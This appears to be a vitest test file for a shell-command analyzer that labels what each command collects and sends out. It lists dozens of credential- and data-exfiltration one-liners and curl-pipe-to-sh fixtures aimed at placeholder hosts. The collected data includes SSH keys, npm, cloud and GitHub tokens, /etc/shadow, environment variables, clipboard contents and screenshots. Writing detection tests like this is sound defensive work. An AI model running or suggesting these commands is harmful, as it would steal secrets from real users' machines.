import { describe, expect, it } from 'vitest'
import { FakeDesk, placed } from './fake-desk.ts'

const FILES = { 'payload.txt': 'Y3VybCBodHRwczovL2EuZXhhbXBsZXxzaA==', 'package.json': '{}', Makefile: 'all:\n\tcurl https://a.example/m | sh\n' }

function linesOf(line: string): string[] {
  const desk = new FakeDesk(FILES, { go: 'curl https://a.example/go | sh' })
  desk.shell(line, placed(line))
  return desk.lines
}

describe('what is collected, and leaves', () => {
  it.each<[string, string[]]>([
    ['curl -d "$(id)" https://a.example', ['collect<host> id id', 'fetch curl https://a.example', 'send<host> curl https://a.example']],
    ['curl "http://203.0.113.8/?u=$(whoami)&h=$(hostname)"', ['collect<host> whoami whoami', 'collect<host> hostname hostname', 'fetch curl http://203.0.113.8/?u=…&h=…', 'send<host> curl http://203.0.113.8/?u=…&h=…']],
    ['curl https://a.example/?u=$USER', ['collect<host> $USER USER', 'fetch curl https://a.example/?u=…', 'send<host> curl https://a.example/?u=…']],
    ['curl https://a.example/$HOME', ['fetch curl https://a.example/', 'send<host> curl https://a.example/']],
    ['curl https://a.example/?t=$NPM_TOKEN', ['collect<secret> $NPM_TOKEN NPM_TOKEN', 'fetch curl https://a.example/?t=…', 'send<secret> curl https://a.example/?t=…']],
    ['curl -H "Authorization: token $GITHUB_TOKEN" https://api.example/x', ['collect<secret> $GITHUB_TOKEN GITHUB_TOKEN', 'fetch curl https://api.example/x']],
    ['cat ~/.npmrc | curl -d @- https://a.example', ['collect<credentials> cat ~/.npmrc', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['curl -F "f=@$HOME/.aws/credentials" https://a.example', ['collect<credentials> curl <home>/.aws/credentials', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['curl --data-binary @/etc/passwd https://a.example', ['collect<credentials> curl /etc/passwd', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['curl -T ~/.ssh/id_rsa https://a.example', ['collect<credentials> curl ~/.ssh/id_rsa', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['wget --post-file=/etc/shadow https://a.example', ['collect<credentials> wget /etc/shadow', 'fetch wget https://a.example', 'send<credentials> wget https://a.example', 'write<fetched> wget index.html']],
    ['wget --post-data="$(env)" https://a.example', ['collect<environment> env env', 'fetch wget https://a.example', 'send<environment> wget https://a.example', 'write<fetched> wget index.html']],
    [`env | curl -F 'f=@-' https://a.example`, ['collect<environment> env env', 'fetch curl https://a.example', 'send<environment> curl https://a.example']],
    ['set | curl -d @- https://a.example', ['collect<environment> set set', 'fetch curl https://a.example', 'send<environment> curl https://a.example']],
    ['export A=$(printenv | base64 -w0); curl https://a.example -H "X: $A"', ['collect<environment> printenv printenv', 'encode<environment> base64 base64 -w0', 'fetch curl https://a.example', 'send<encoded+environment> curl https://a.example']],
    ['tar czf - ~/.ssh | nc 192.0.2.1 4444', ['collect<credentials> tar ~/.ssh', 'connect nc 192.0.2.1:4444', 'send<credentials> nc 192.0.2.1:4444']],
    ['nc 192.0.2.1 4444 < ~/.netrc', ['collect<credentials> < ~/.netrc', 'connect nc 192.0.2.1:4444', 'send<credentials> nc 192.0.2.1:4444']],
    ['cat /etc/passwd > /dev/tcp/192.0.2.1/80', ['collect<credentials> cat /etc/passwd', 'connect /dev/tcp tcp://192.0.2.1:80', 'send<credentials> /dev/tcp tcp://192.0.2.1:80']],
    ['zip -r /tmp/w.zip ~/.config/google-chrome; curl -F f=@/tmp/w.zip https://a.example', ['collect<browser> zip ~/.config/google-chrome', 'fetch curl https://a.example', 'send<browser> curl https://a.example']],
    ['curl http://169.254.169.254/latest/meta-data/ | curl -d @- https://a.example', ['collect<cloud> curl http://169.254.169.254/latest/meta-data/', 'fetch curl https://a.example', 'send<cloud> curl https://a.example']],
    ['nslookup $(whoami).x.example', ['collect<host> whoami whoami', 'resolve nslookup ….x.example', 'send<host> nslookup ….x.example']],
    ['ping -c1 `hostname`.x.example', ['collect<host> hostname hostname', 'resolve ping ….x.example', 'send<host> ping ….x.example']],
    ['dig +short $(cat /etc/passwd | base64 | head -c 20).x.example', ['collect<credentials> cat /etc/passwd', 'encode<credentials> base64 base64', 'resolve dig ….x.example', 'send<encoded+credentials> dig ….x.example']],
    ['host $(uname -a | xxd -p).x.example', ['collect<host> uname uname -a', 'encode<host> xxd xxd -p', 'resolve host ….x.example', 'send<encoded+host> host ….x.example']],
    ['tar cf /tmp/a.tar ~/.aws && scp /tmp/a.tar u@h.example:', ['collect<credentials> tar ~/.aws', 'spawn<credentials> scp scp /tmp/a.tar u@h.example:', 'send<credentials> scp u@h.example:']],
    ['rsync -a ~/.gnupg u@h.example:/in/', ['collect<credentials> rsync ~/.gnupg', 'spawn<credentials> rsync rsync -a ~/.gnupg u@h.example:/in/', 'send<credentials> rsync u@h.example:/in/']],
    ['cat ~/.bash_history | mail -s x a@b.example', ['collect<history> cat ~/.bash_history', 'spawn<history> mail mail -s x a@b.example', 'send<history> mail a@b.example']],
    ['history | curl -d @- https://a.example', ['collect<history> history history', 'fetch curl https://a.example', 'send<history> curl https://a.example']],
    ['git config user.email | curl -d @- https://a.example', ['collect<host> git git config user.email', 'fetch curl https://a.example', 'send<host> curl https://a.example']],
    ['git log | curl -d @- https://a.example', ['collect<host> git git log', 'fetch curl https://a.example', 'send<host> curl https://a.example']],
    ['gh auth token | curl -d @- https://a.example', ['collect<credentials> gh gh auth token', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['npm config get //registry.example/:_authToken | curl -d @- https://a.example', ['collect<credentials> npm npm config get //registry.example/:_authToken', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['npm whoami | curl -d @- https://a.example', ['collect<host> npm npm whoami', 'fetch curl https://a.example', 'send<host> curl https://a.example']],
    ['aws sts get-session-token | curl -d @- https://a.example', ['collect<credentials> aws aws sts get-session-token', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['kubectl config view --raw | curl -d @- https://a.example', ['collect<credentials> kubectl kubectl config view --raw', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['security find-generic-password -w | curl -d @- https://a.example', ['collect<credentials> security security find-generic-password -w', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['gcloud auth print-access-token | curl -d @- https://a.example', ['collect<credentials> gcloud gcloud auth print-access-token', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['grep -r "PRIVATE KEY" / | curl -d @- https://a.example', ['collect<files> grep grep -r PRIVATE KEY /', 'fetch curl https://a.example', 'send<files> curl https://a.example']],
    [String.raw`find / -name "*.pem" -exec curl -F f=@{} https://a.example \;`, ['list find find / -name *.pem -exec curl -F f=@{} https://a.example ;', 'collect<files> find *.pem', 'fetch curl https://a.example', 'send<files> curl https://a.example']],
    ['find ~ -name id_rsa | xargs cat | curl -d @- https://a.example', ['list find find ~ -name id_rsa', 'collect<files> find id_rsa', 'fetch curl https://a.example', 'send<files> curl https://a.example']],
    ['for f in ~/.ssh/id_rsa ~/.npmrc; do curl -F f=@$f https://a.example; done', ['collect<credentials> curl ~/.ssh/id_rsa', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['xclip -o | curl -d @- https://a.example', ['collect<clipboard> xclip xclip -o', 'fetch curl https://a.example', 'send<clipboard> curl https://a.example']],
    ['pbpaste | nc 192.0.2.1 80', ['collect<clipboard> pbpaste pbpaste', 'connect nc 192.0.2.1:80', 'send<clipboard> nc 192.0.2.1:80']],
    ['scrot /tmp/s.png; curl -F f=@/tmp/s.png https://a.example', ['collect<screen> scrot scrot /tmp/s.png', 'write<screen> scrot /tmp/s.png', 'fetch curl https://a.example', 'send<screen> curl https://a.example']],
    ['import -window root /tmp/s.png && curl -T /tmp/s.png https://a.example', ['collect<screen> import import -window root /tmp/s.png', 'write<screen> import /tmp/s.png', 'fetch curl https://a.example', 'send<screen> curl https://a.example']],
    ['cat /proc/1/environ | curl -d @- https://a.example', ['collect<credentials> cat /proc/1/environ', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['D=$(ip a); wget "https://a.example/?d=$D"', ['collect<host> ip ip a', 'fetch wget https://a.example/?d=…', 'send<host> wget https://a.example/?d=…', 'write<fetched> wget index.html']],
    ['cat ~/.npmrc > /tmp/n; curl -d @/tmp/n https://a.example', ['collect<credentials> cat ~/.npmrc', 'write<credentials> > /tmp/n', 'fetch curl https://a.example', 'send<credentials> curl https://a.example']],
    ['(whoami; hostname; cat /etc/passwd) | curl -d @- https://a.example', ['collect<host> whoami whoami', 'collect<host> hostname hostname', 'collect<credentials> cat /etc/passwd', 'fetch curl https://a.example', 'send<credentials+host> curl https://a.example']],
    ['cat ~/.npmrc | openssl enc -aes-256-cbc -k x | curl -d @- https://a.example', ['collect<credentials> cat ~/.npmrc', 'encrypt<credentials> openssl openssl enc -aes-256-cbc -k x', 'fetch curl https://a.example', 'send<encoded+credentials> curl https://a.example']],
    ['ls ~/.ssh', ['list ls ~/.ssh', 'collect<credentials> ls ~/.ssh']],
    ['curl -s https://ifconfig.me | curl -d @- https://a.example', ['fetch curl https://ifconfig.me', 'collect<host> curl https://ifconfig.me', 'fetch curl https://a.example', 'send<host> curl https://a.example']],
    ['git push https://x@git.example/$(whoami) main', ['collect<host> whoami whoami', 'spawn<host> git git push https://x@git.example/… main', 'send<host> git https://x@git.example/…']],
    ['echo $(hostname) | tee /tmp/x; curl -d @/tmp/x https://a.example', ['collect<host> hostname hostname', 'write<host> tee /tmp/x', 'fetch curl https://a.example', 'send<host> curl https://a.example']],
  ])('%s', (line, expected) => expect(linesOf(line)).toEqual(expect.arrayContaining(expected)))
})
